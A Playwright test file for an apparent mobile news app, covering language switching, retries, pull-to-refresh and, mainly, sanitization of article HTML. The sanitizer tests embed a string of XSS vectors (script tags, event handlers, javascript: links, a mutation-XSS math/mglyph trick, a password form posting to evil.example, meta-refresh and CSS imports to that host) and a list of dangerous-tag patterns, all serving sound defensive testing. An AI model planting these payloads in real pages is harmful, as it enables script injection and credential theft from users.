import type { Page } from '@playwright/test'
import { drag } from './touch.ts'
import { expect, test } from './fixtures.ts'
import { packet, interceptPushes } from './pushes.ts'
import { deploy } from './site.ts'
import { XSS_VECTORS } from './xss-vectors.ts'
import { goTo, login, openChinese, rows, toast } from './steps.ts'

const article = (page: Page) => page.getByRole('article')
const heading = (page: Page) => page.getByRole('heading', { level: 1 })
const failure = (page: Page) => page.getByRole('alert').filter({ hasText: 'no connection' })

/** Responds to every article request with this HTML. */
const answerWith = (page: Page, content: string) =>
  page.route('**/api/news/detail*', route =>
    route.fulfill({ json: { type: 'ok', message: { id: 9, title: 'T', content, create_time: null } } }),
  )

test('shows news in the chosen language, and refetches on Retry and pull', async ({ page, user }) => {
  await openChinese(page)
  const pushes = await interceptPushes(page)
  await login(page, user)
  await page.getByRole('link', { name: /^News/ }).click()
  await expect(heading(page)).toHaveText('News')
  await expect(rows(page)).toHaveCount(6)
  await page.route('**/api/news/*', route => route.abort())
  const title = 'How to recognise fake customer service'
  await rows(page).filter({ hasText: title }).getByRole('link').click()
  await expect(page).toHaveURL(/\/article\/info\?id=305&title=How\+to/)
  await expect(heading(page)).toHaveText(title)
  await expect(failure(page)).toBeVisible()
  await page.unrouteAll()
  await page.getByRole('button', { name: 'Retry' }).click()
  await expect(article(page)).toContainText('Our staff never ask for your password')
  await answerWith(page, '<p>Updated</p>')
  await drag(page, page.getByRole('main'), { dy: 300, at: { x: 0.5, y: 0.1 } })
  await expect(article(page)).toHaveText('Updated')
  await page.unrouteAll()
  await page.getByRole('button', { name: 'Back' }).click()
  await expect(rows(page)).toHaveCount(6)
  await page.goForward()

  await pushes.add(packet('update_lang'))
  const sheet = page.getByRole('dialog', { name: 'Choose Language' })
  await sheet.getByRole('button', { name: '繁體中文' }).click()
  await expect(sheet).toBeHidden()
  await expect(article(page)).toContainText('密碼')
  await expect(heading(page)).toHaveText('如何識別假冒客服')
  await page.goBack()
  await expect(rows(page).filter({ hasText: '如何識別假冒客服' })).toBeVisible()

  await goTo(page, 'article/list?cid=5')
  await expect(page.getByText('載入更多')).toBeVisible()
  await goTo(page, 'article/info?id=1e3')
  await expect(page.getByRole('main').getByRole('link')).toBeVisible()
  await page.getByRole('main').getByRole('link').click()
  await expect(rows(page)).toHaveCount(6)
})

/** A one-pixel GIF. */
const DOT = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')

const HOSTILE = `
<script>window.ran = 'script'</script>
<img src="https://pictures.example/broken.png" onerror="window.ran = 'onerror'" alt="A chart" width="900" height="40">
<svg onload="window.ran = 'svg'"><script>window.ran = 'svg script'</script><a href="javascript:window.ran = 1"><text>s</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran='mutated'&gt;"></mglyph></table></mtext></math>
<iframe srcdoc="<script>parent.ran = 'iframe'</script>"></iframe>
<object data="javascript:window.ran = 'object'"></object><embed src="javascript:window.ran = 'embed'">
<form action="https://evil.example/steal"><input name="password" autofocus onfocus="window.ran = 'focus'"><button>Log in</button></form>
<details open ontoggle="window.ran = 'toggle'"><summary>More</summary></details>
<style>body { display: none } @import url(https://evil.example/style.css)</style>
<link rel="stylesheet" href="https://evil.example/style.css"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div style="position: fixed; inset: 0; background: url(https://evil.example/a.png)" class="_card" id="root" onclick="window.ran = 'click'">Cover</div>
<a href="javascript:window.ran = 'link'">one</a> <a href="java\tscript:window.ran = 'tab'">two</a>
<a href="&#106;avascript:window.ran = 'entity'">three</a> <a href="data:text/html,<script>alert(1)</script>">four</a>
<a href="vbscript:x" target="_self">five</a> <a href="blob:x">six</a>
<a href="https://good.example/page" target="_top" rel="opener" ping="https://evil.example/ping">web</a> <a href="mailto:help@good.example">mail</a>
<h1>Big</h1><h2>Small</h2><table><tr><td>${'wide '.repeat(3)}</td>${'<td>cell</td>'.repeat(12)}</tr></table>
<p>${'Donaudampfschifffahrt'.repeat(8)}</p>
<p>Before <img src="https://gone.example/one.png" width="900" height="40" alt="Another chart"> between <img src="https://gone.example/two.png"> after</p>
<p>The end</p>`

test('sanitizes the HTML of an article', async ({ ready: page, accessible }) => {
  const requests: string[] = []
  page.on('request', request => requests.push(request.url()))
  page.on('dialog', dialog => {
    requests.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  const picture = page.waitForRequest('https://pictures.example/**')
  await page.route('https://pictures.example/**', route =>
    route.fulfill({ body: DOT, contentType: 'image/gif' }),
  )
  await page.route('https://gone.example/**', route => route.abort())
  // The sanitizer must suffice where a host sends no policy.
  await deploy(page, { guarded: false })
  await answerWith(page, HOSTILE)
  await page.goto('article/info?id=9&title=%3Cimg+src%3Dx+onerror%3D%22window.ran%3D1%22%3E')
  await expect(article(page)).toContainText('The end')
  await expect(heading(page)).toHaveText('<img src=x onerror="window.ran=1">')
  expect((await picture).headers()['referer']).toBeUndefined()
  for (const word of ['one', 'two', 'three', 'four', 'five', 'six', 'Cover'])
    await article(page).getByText(word, { exact: true }).click()

  await expect(article(page).locator('img')).toHaveCount(1)
  const found = await article(page).evaluate(root => {
    const all = [...root.querySelectorAll('*')]
    return {
      tags: [...new Set(all.map(({ localName }) => localName))].toSorted(),
      attributes: [...new Set(all.flatMap(each => each.getAttributeNames()))].toSorted(),
      links: [...root.querySelectorAll('a[href]')].map(link => link.outerHTML),
      pictures: [...root.querySelectorAll('img')].map(({ outerHTML }) => outerHTML),
      paragraphs: [...root.querySelectorAll('p')].map(({ textContent }) => textContent),
    }
  })
  expect(found.tags).toEqual(['a', 'div', 'h2', 'h3', 'img', 'p', 'span', 'table', 'tbody', 'td', 'tr'])
  expect(
    found.attributes.filter(name => name.startsWith('on') || /^(style|id|name|ping)$/.test(name)),
  ).toEqual([])
  expect(found.links).toHaveLength(2)
  for (const [at, href] of ['https://good.example/page', 'mailto:help@good.example'].entries()) {
    expect(found.links[at]).toContain(`href="${href}"`)
    expect(found.links[at]).toContain('target="_blank"')
    expect(found.links[at]).toContain('rel="noopener noreferrer"')
  }
  // The alt text replaces a picture that does not load.
  expect(found.paragraphs).toContain('Before Another chart between  after')
  expect(found.pictures).toHaveLength(1)
  expect(found.pictures[0]).toContain('loading="lazy"')
  expect(found.pictures[0]).toContain('referrerpolicy="no-referrer"')
  expect(await page.evaluate(() => Reflect.get(window, 'ran') as unknown)).toBeUndefined()
  expect(requests.filter(url => /evil|^dialog/.test(url))).toEqual([])
  expect(page.url()).toContain('/article/info')

  // The table scrolls on its own; the page is never wider than the phone.
  expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
  const table = article(page).locator('div[tabindex="0"]')
  expect(await table.evaluate(box => box.scrollWidth > box.clientWidth)).toBe(true)
  await table.focus()
  await expect(table).toBeFocused()
  await accessible('an article with a table')
})

const GROUP = 12
/** Vectors that mix languages swallow what follows: each is an article of its own. */
const MIXED = /math|mglyph|<!|<\?|svg><\/p|noscript|xmp|title><img|template|textarea><img/
/** Ends the elements that vectors leave open. */
const CLOSING =
  'textarea style title xmp noscript select template mtext svg math form table video audio iframe object'
    .split(' ')
    .map(tag => `</${tag}>`)
    .join('')

const groups = (): readonly (readonly string[])[] => {
  const plain = XSS_VECTORS.filter(vector => !MIXED.test(vector))
  const count = Math.ceil(plain.length / GROUP)
  return [
    ...Array.from({ length: count }, (_, at) => plain.slice(at * GROUP, (at + 1) * GROUP)),
    ...XSS_VECTORS.filter(vector => MIXED.test(vector)).map(vector => [vector]),
  ]
}

test('no known attack in an article runs code or calls another host', async ({ ready: page }) => {
  // Twenty page loads.
  test.slow()
  const calls: string[] = []
  page.on('request', request => calls.push(request.url()))
  page.on('dialog', dialog => void dialog.dismiss())
  await page.route('https://good.example/**', route => route.fulfill({ body: '' }))
  await deploy(page, { guarded: false })
  await answerWith(page, '<p>Start</p>')
  await page.goto('article/info?id=9')
  for (const [number, vectors] of groups().entries()) {
    await answerWith(
      page,
      vectors.map((vector, at) => `<p>Start ${number}.${at}</p>${vector}${CLOSING}`).join(''),
    )
    await page.reload()
    // No vector swallows the next ones.
    for (const at of vectors.keys()) await expect(article(page)).toContainText(`Start ${number}.${at}`)
    await article(page).evaluate(root =>
      root.querySelectorAll<HTMLElement>('*').forEach(each => each.click()),
    )
    const left = await article(page).evaluate(root => ({
      ran: Reflect.get(window, 'ran') as unknown,
      tags: [...root.querySelectorAll('*')].map(({ localName }) => localName),
      attributes: [...root.querySelectorAll('*')].flatMap(each => each.getAttributeNames()),
    }))
    expect.soft(left.ran, vectors.join('\n')).toBeUndefined()
    const dangerous = /^(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base)$/
    expect
      .soft(
        left.tags.filter(tag => dangerous.test(tag)),
        vectors.join('\n'),
      )
      .toEqual([])
    expect
      .soft(
        left.attributes.filter(name => /^(on|style|ping|srcset|background)/.test(name)),
        vectors.join('\n'),
      )
      .toEqual([])
  }
  expect(calls.filter(url => url.includes('evil.example'))).toEqual([])
})

test('copies the name of a tapped icon', async ({ ready: page, context, accessible }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.goto('icon')
  for (const [region, name] of [
    ['Coins', 'BTC'],
    ['App', 'Wallet'],
  ] as const) {
    await page.getByRole('region', { name: region }).getByRole('button', { name, exact: true }).click()
    await expect(toast(page)).toHaveText('Success')
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(name)
  }
  await accessible('icons')
})
